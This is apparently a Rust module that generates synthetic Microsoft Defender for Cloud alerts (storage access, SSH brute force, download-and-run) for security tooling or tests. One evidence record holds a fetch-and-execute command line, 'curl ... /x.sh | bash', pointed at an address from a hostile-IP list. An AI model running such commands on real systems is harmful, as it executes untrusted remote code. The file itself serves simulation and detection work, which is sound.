//! Microsoft Defender for Cloud (servers and storage plans). Its `serviceSource`
//! (`microsoftDefenderForCloud`) and `detectionSource` (`microsoftDefenderForServers`,
//! `microsoftDefenderForStorage`) are evolvable members.

use crate::catalog::devices::LINUX_SERVERS;
use crate::catalog::files::{BASH, SSHD};
use crate::catalog::network::HOSTILE_IPS;
use crate::detection::{Detection, Headline, Product};
use crate::evidence::cloud::{self, AzureResource};
use crate::evidence::host::{self, OnHost, Process, Sensor};
use crate::evidence::identity::{self, Account};
use crate::evidence::network::{self, Address};
use crate::evidence::Part;
use crate::fingerprint;
use crate::scene::Scene;
use model::enums::{
    AlertDetermination as D, AlertSeverity as Sev, DetectionSource as Src, EvidenceRole as R,
    EvidenceVerdict as V, ServiceSource,
};

/// Defender for Cloud's server plan (the legacy provider is `ASC`).
static SERVERS: Product = Product {
    name: "Microsoft Defender for Cloud",
    service: ServiceSource::MicrosoftDefenderForCloud,
    vendor: "Microsoft",
    provider: "ASC",
    sub_provider: Some("Detection"),
    provider_version: None,
    microsoft: true,
    automated: false,
};

/// Defender for Cloud's storage plan.
static STORAGE: Product = Product {
    sub_provider: Some("StorageThreatDetection"),
    ..SERVERS
};

/// The storage account holding finance exports.
const FINANCE_STORAGE: AzureResource = AzureResource {
    id: "/subscriptions/3f2b8c1e-7d4a-4e6b-9c0f-5a1d2e3b4c5d/resourceGroups/rg-finance/providers/Microsoft.Storage/storageAccounts/contosofinancedata",
    name: "contosofinancedata",
    kind: "Microsoft.Storage/storageAccounts",
};

const UNUSUAL_ACCESS: Headline = Headline {
    title: "Access from an unusual location to a storage blob container",
    description: "Someone accessed a blob container of the storage account from an address and location not seen for this account before.",
    category: "Exfiltration",
    mitre: &["T1530"],
    severity: Sev::Low,
    source: Src::MicrosoftDefenderForStorage,
    true_positive: D::MaliciousUserActivity,
};
const SSH_BRUTE_FORCE: Headline = Headline {
    title: "Successful SSH brute force attack",
    description: "After many failed SSH password attempts from one address, a sign-in from that address succeeded.",
    category: "CredentialAccess",
    mitre: &["T1110.001"],
    severity: Sev::High,
    source: Src::MicrosoftDefenderForServers,
    true_positive: D::CompromisedAccount,
};
const DOWNLOAD_RUN: Headline = Headline {
    title: "Suspicious download then run activity",
    description: "A file was downloaded from the Internet and immediately executed by a shell, a typical first stage of Linux malware.",
    category: "Execution",
    mitre: &["T1105", "T1059.004"],
    severity: Sev::Medium,
    source: Src::MicrosoftDefenderForServers,
    true_positive: D::Malware,
};

const RECOMMENDED: &str = "Review the resource's activity around the alert in Defender for Cloud, restrict network access to the resource, and rotate any credentials that may be exposed.";

const SOURCE: Part = Part::new(&[R::Attacker, R::Source], &[], V::Suspicious);
const RESOURCE: Part = Part::new(&[R::Attacked], &[], V::Unknown);

/// One Defender for Cloud alert.
pub(crate) fn detect(scene: &mut Scene<'_>) -> Detection {
    let pick = scene.dice.weighted(&[(0, 3), (1, 2), (2, 2)]);
    let (product, headline) = match pick {
        0 => (&STORAGE, &UNUSUAL_ACCESS),
        1 => (&SERVERS, &SSH_BRUTE_FORCE),
        _ => (&SERVERS, &DOWNLOAD_RUN),
    };
    let guid = scene.dice.uuid().to_string();
    let mut det = Detection::new(product, headline, guid.clone(), guid);
    det.detector_id = Some(fingerprint::guid(&format!(
        "mdc-alert-type:{}",
        headline.title
    )));
    det.web_url = Some(scene.portal_url(&det.id));
    det.recommended_actions = Some(RECOMMENDED);
    let ip = scene.dice.pick_skewed(HOSTILE_IPS);
    det.evidence
        .push(network::ip(scene, Address::Public(ip), SOURCE));
    if pick == 0 {
        det.evidence
            .push(cloud::azure_resource(scene, &FINANCE_STORAGE, RESOURCE));
        return det;
    }
    server_evidence(scene, &mut det, pick == 1, ip.address);
    det
}

/// A Linux server's evidence: the device, then the brute-forced root account or the
/// download-and-run process fetching from `source`.
fn server_evidence(scene: &mut Scene<'_>, det: &mut Detection, brute_force: bool, source: &str) {
    let server = &LINUX_SERVERS[*scene.dice.pick_skewed(&[2usize, 0, 1, 4])];
    det.evidence.push(host::device(
        scene,
        server,
        Sensor::Defender,
        det.severity,
        RESOURCE,
    ));
    if brute_force {
        det.evidence.push(identity::user(
            scene,
            Account::Local("root"),
            Part::new(&[R::Compromised], &[], V::Suspicious),
        ));
    } else {
        let at = OnHost {
            device: server,
            alias: "root",
            detection: Some("detected"),
            sensor: Sensor::Defender,
        };
        let command = format!("bash -c \"curl -fsSL http://{}/x.sh | bash\"", source);
        let p = Process {
            image: &BASH,
            command_line: command,
            parent: &SSHD,
            account: Account::Local("root"),
        };
        det.evidence.push(host::process(
            scene,
            p,
            at,
            Part::new(&[R::Suspicious], &[], V::Malicious),
        ));
    }
}
